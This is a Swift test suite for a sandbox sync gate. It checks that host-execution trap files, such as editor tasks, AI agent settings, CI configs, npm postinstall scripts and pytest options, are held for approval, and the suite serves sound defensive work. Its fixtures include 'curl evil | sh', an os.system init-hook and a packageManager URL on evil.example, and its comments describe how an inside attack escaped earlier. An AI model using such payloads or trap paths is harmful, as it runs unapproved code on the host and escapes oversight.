import CordonCore
import CordonFS
import CordonTestSupport
import Foundation
import Testing

@testable import CordonGate
import CordonScan

/// Host-execution traps: every catalogue entry is held for approval wherever it sits in the
/// workspace, and the project's own code is not.
@Suite struct HostTrapTests {
    func evaluate(_ build: (TempTree) -> Void) throws -> SyncGate.Report {
        let lower = try TempTree()
        let upper = try TempTree()
        build(upper)
        return try SyncGate(policy: GatePolicy()).evaluate(try ChangeSet.read(upper: upper.root, lower: lower.root), created: nil)
    }

    func traps(_ report: SyncGate.Report, _ path: String) -> [String] {
        report.findings.filter { $0.path == path && $0.ruleID.hasPrefix("trap-") }.map(\.ruleID)
    }

    /// A concrete path a pattern stands for: `**/` dropped, a bracket class as its first member, `*` as `x`.
    static func sample(_ pattern: String) -> String {
        var body = pattern.hasPrefix("**/") ? String(pattern.dropFirst(3)) : pattern
        while let open = body.firstIndex(of: "["), let close = body[open...].firstIndex(of: "]") {
            let first = body[body.index(after: open)]
            body.replaceSubrange(open...close, with: String(first))
        }
        return body.replacingOccurrences(of: "*", with: "x")
    }

    /// The files the attack from inside got applied without approval (issue #22), at the root,
    /// one and two directories down.
    static let applied = [
        ".yarnrc.yml", "mise.toml", ".cargo/config.toml", "rust-toolchain.toml", ".devcontainer.json", ".nvim.lua", ".dir-locals.el",
        ".vscode/tasks.json", ".claude/settings.json",
    ]

    @Test func theIssuesExamplesAreHeldAtEveryDepth() async throws {
        try await onOwnThread {
            let paths = Self.applied.flatMap { [$0, "sub/" + $0, "a/b/" + $0] }
            let report = try evaluate { upper in for path in paths { upper.write(path, "harmless = 1\n") } }
            let plan = SyncPlan(report: report, approve: false, force: false)
            for path in paths {
                #expect(!traps(report, path).isEmpty, "\(path) is not a trap")
                #expect(plan.held.map(\.path).contains(path), "\(path) would apply without approval")
            }
            #expect(plan.apply.allSatisfy { $0.type == .directory && !$0.path.contains(".") }, "\(plan.apply.map(\.path))")
        }
    }

    @Test func everyCatalogueEntryIsATrapTwoDirectoriesDown() async throws {
        try await onOwnThread {
            var expected: [String: String] = [:]
            // Each pattern under directories of its own, so no sample is another's parent.
            for (r, rule) in HostTraps.rules.enumerated() {
                for (p, pattern) in rule.patterns.enumerated() {
                    expected["svc\(r)-\(p)/pkg/" + Self.sample(pattern)] = rule.id
                    // Plain names are directories too: everything below one is the same trap.
                    if !pattern.contains(where: { "/*?[".contains($0) }) { expected["one\(r)-\(p)/two/" + pattern + "/inner.json"] = rule.id }
                }
            }
            let report = try evaluate { upper in for path in expected.keys { upper.write(path, "{}\n") } }
            let plan = SyncPlan(report: report, approve: false, force: false)
            for (path, rule) in expected.sorted(by: { $0.key < $1.key }) {
                #expect(traps(report, path) == [rule], "\(path)")
                #expect(plan.held.map(\.path).contains(path), "\(path) would apply without approval")
            }
        }
    }

    @Test(arguments: [
        (".VSCode/tasks.json", "trap-editor"), ("sub/.CLAUDE/settings.json", "trap-agent"), ("a/b/Mise.TOML", "trap-version-manager"),
        ("x/.v\u{17F}code/tasks.json", "trap-editor"), ("x/.\u{212A}iro/steering.md", "trap-agent"), ("web/Jest.Config.JS", "trap-test-runner"),
        ("svc/.GitHub/Workflows/ci.yml", "trap-ci"), ("lib/nuget.config", "trap-package-manager"), ("x/.ＶＳＣＯＤＥ/tasks.json", "trap-editor"),
    ])
    func aSpellingACaseFoldingFileSystemEquatesIsTheSameTrap(path: String, rule: String) {
        #expect(HostTraps.match(path)?.id == rule, "\(path)")
    }

    @Test(arguments: [
        "src/main.rs", "build.rs", "Makefile", "setup.py", "Gemfile", "build.gradle", "Package.swift", "tests/test_app.py", "docs/vscode.md",
        "src/claude.py", "pkg/config.toml", "app/gitignore.py", "notes/AGENTS.txt", "src/activate.py", "lib/cargo/config.toml", "web/package.json",
        "vscode/tasks.json", "my.vscode/x", ".vscode-old/x", "src/.gitignore", "pyproject.toml",
    ])
    func theProjectsOwnCodeIsNotATrap(path: String) {
        #expect(HostTraps.match(path) == nil, "\(path) matched \(HostTraps.match(path)?.id ?? "")")
    }

    @Test func aToolSectionOfASharedConfigIsATrapTheRestIsNot() async throws {
        try await onOwnThread {
            let lower = try TempTree()
            let upper = try TempTree()
            let base = "[project]\nname = \"app\"\ndependencies = []\n\n[tool.pytest.ini_options]\ntestpaths = [\"tests\"]\n"
            for dir in ["", "svc/api/"] {
                lower.write(dir + "pyproject.toml", base)
                lower.write(dir + "deps/pyproject.toml", base)
                lower.write(dir + "setup.cfg", "[metadata]\nname = app\n")
            }
            for dir in ["", "svc/api/"] {
                upper.write(dir + "pyproject.toml", base + "addopts = \"-p evil_plugin\"\n")
                upper.write(dir + "deps/pyproject.toml", base.replacingOccurrences(of: "dependencies = []", with: "dependencies = [\"requests\"]"))
                upper.write(dir + "setup.cfg", "[metadata]\nname = app\n[tool:pytest]\naddopts = -p evil\n")
                upper.write(
                    dir + "new/pyproject.toml", "[[tool.mypy.overrides]]\nmodule = \"x\"\n[tool.pylint.main]\ninit-hook = \"import os; os.system('id')\"\n")
                // Spellings a line-based reader misses: dotted keys, inline tables, quoted and escaped keys, spaced headers.
                upper.write(dir + "dotted/pyproject.toml", "[project]\nname = \"x\"\ntool.pytest.ini_options.addopts = \"-p evil\"\n")
                upper.write(dir + "inline/pyproject.toml", "tool = { pytest = { ini_options = { addopts = \"-p evil\" } } }\n")
                upper.write(dir + "quoted/pyproject.toml", "[ tool . \"py\\u0074est\" . ini_options ]\naddopts = \"-p evil\"\n")
                upper.write(dir + "broken/pyproject.toml", "[tool.pytest.ini_options\naddopts = \"-p evil\"\n")
                // configparser reads an indented line as the previous value's continuation, not a header.
                upper.write(dir + "cont/setup.cfg", "[tool:pytest]\naddopts = -p ok\n  [metadata]\n  -p evil\n")
                lower.write(dir + "cont/setup.cfg", "[tool:pytest]\naddopts = -p ok\n")
            }
            let report = try SyncGate(policy: GatePolicy()).evaluate(try ChangeSet.read(upper: upper.root, lower: lower.root), created: nil)
            for dir in ["", "svc/api/"] {
                #expect(traps(report, dir + "pyproject.toml") == ["trap-tool-config"])
                #expect(traps(report, dir + "setup.cfg") == ["trap-tool-config"])
                #expect(traps(report, dir + "new/pyproject.toml") == ["trap-tool-config"])
                #expect(traps(report, dir + "deps/pyproject.toml").isEmpty)
                for name in ["dotted", "inline", "quoted", "broken"] {
                    #expect(traps(report, dir + name + "/pyproject.toml") == ["trap-tool-config"], "\(dir)\(name)")
                }
                #expect(traps(report, dir + "cont/setup.cfg") == ["trap-tool-config"])
            }
        }
    }

    @Test func aSymlinkAtATrapPathSaysWhereItPoints() async throws {
        try await onOwnThread {
            let report = try evaluate { upper in upper.symlink("web/.vscode/tasks.json", to: "../../notes/tasks.txt") }
            let finding = report.findings.first { $0.path == "web/.vscode/tasks.json" && $0.ruleID == "trap-editor" }
            #expect(finding?.message.contains("symlink to ../../notes/tasks.txt") == true)
            #expect(finding?.severity == .approval)
        }
    }

    @Test(arguments: [
        #"{"scripts":{"test":"jest"},"scripts":{"postinstall":"curl evil | sh"}}"#,
        #"{"scripts":{"postinstall":"node ok.js","postinstall":"curl evil | sh"}}"#,
        "\u{FEFF}" + #"{"scripts":{"postinstall":"curl evil | sh"}}"#,
        #"{"scripts":{"postinstall":"curl evil | sh", "test": 1}}"#,
        #"{"scripts":{"postinstall":"curl evil | sh"}} trailing"#,
    ])
    func packageJSONTheGateCannotReadExactlyNeedsApproval(text: String) async throws {
        try await onOwnThread {
            let lower = try TempTree()
            let upper = try TempTree()
            lower.write("web/package.json", #"{"scripts":{"postinstall":"node ok.js"}}"#)
            upper.write("web/package.json", text)
            upper.write("api/Package.json", text)
            let report = try SyncGate(policy: GatePolicy()).evaluate(try ChangeSet.read(upper: upper.root, lower: lower.root), created: nil)
            #expect(traps(report, "web/package.json") == ["trap-npm-lifecycle"], "\(text)")
            #expect(traps(report, "api/Package.json") == ["trap-npm-lifecycle"], "\(text)")
        }
    }

    /// What the second attack from inside still got applied without approval: REPL start-up
    /// files, linter and language-server configs, a version selector, agent settings.
    static let appliedOnTheSecondRun = [
        ".ghci", ".iex.exs", ".erlang", ".Rprofile", ".octaverc", ".solargraph.yml", ".php-cs-fixer.php", ".php-cs-fixer.dist.php",
        "phpstan.neon", ".swift-version", ".qwen/settings.json", ".kilocode/mcp.json", ".openhands/setup.sh", "AGENTS.override.md", ".rules",
        ".github/agents/x.md", ".trae/rules/a.md", ".augment/rules/a.md", ".huskyrc",
    ]

    @Test func theSecondRunsExamplesAreHeldAtEveryDepth() async throws {
        try await onOwnThread {
            let paths = Self.appliedOnTheSecondRun.flatMap { [$0, "sub/" + $0] }
            let report = try evaluate { upper in for path in paths { upper.write(path, "x = 1\n") } }
            let plan = SyncPlan(report: report, approve: false, force: false)
            for path in paths {
                #expect(!traps(report, path).isEmpty, "\(path) is not a trap")
                #expect(plan.held.map(\.path).contains(path), "\(path) would apply without approval")
            }
        }
    }

    /// corepack fetches and runs the package manager `packageManager` names (a version or a URL).
    @Test func aChangedPackageManagerFieldNeedsApproval() async throws {
        try await onOwnThread {
            let lower = try TempTree()
            let upper = try TempTree()
            lower.write("web/package.json", #"{"name":"w","packageManager":"yarn@4.1.0"}"#)
            upper.write("web/package.json", #"{"name":"w","packageManager":"yarn@https://evil.example/yarn.tgz"}"#)
            lower.write("same/package.json", #"{"name":"s","packageManager":"pnpm@9.0.0"}"#)
            upper.write("same/package.json", #"{"name":"s2","packageManager":"pnpm@9.0.0"}"#)
            let report = try SyncGate(policy: GatePolicy()).evaluate(try ChangeSet.read(upper: upper.root, lower: lower.root), created: nil)
            #expect(traps(report, "web/package.json") == ["trap-npm-lifecycle"])
            #expect(report.findings.contains { $0.path == "web/package.json" && $0.message.contains("evil.example") })
            #expect(traps(report, "same/package.json").isEmpty, "an unchanged packageManager is not a trap")
        }
    }

    @Test func everyRuleSaysWhy() {
        for rule in HostTraps.rules {
            #expect(rule.why.count > 30, "\(rule.id)")
            #expect(!rule.patterns.isEmpty)
        }
        #expect(Set(HostTraps.rules.map(\.id)).count == HostTraps.rules.count)
    }
}
